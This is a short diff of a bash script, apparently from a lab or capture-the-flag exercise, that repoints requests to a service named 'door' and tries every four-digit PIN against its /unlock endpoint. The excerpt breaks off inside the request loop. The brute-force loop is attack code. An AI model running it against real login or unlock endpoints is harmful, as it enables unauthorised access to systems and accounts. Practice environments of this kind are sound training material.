@@ -1,11 +1,11 @@
 #!/bin/bash
 set -euo pipefail
 # --- step: read the API description
-python3 -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:9000/').read().decode())"
+python3 -c "import urllib.request; print(urllib.request.urlopen('http://door:9000/').read().decode())"
 # --- step: try every PIN over one keep-alive connection
 python3 - <<'PY'
 import http.client, json
-conn = http.client.HTTPConnection("127.0.0.1", 9000)
+conn = http.client.HTTPConnection("door", 9000)
 for i in range(10000):
     conn.request("POST", "/unlock", body=f"pin={i:04d}",
                  headers={"Content-Type": "application/x-www-form-urlencoded"})
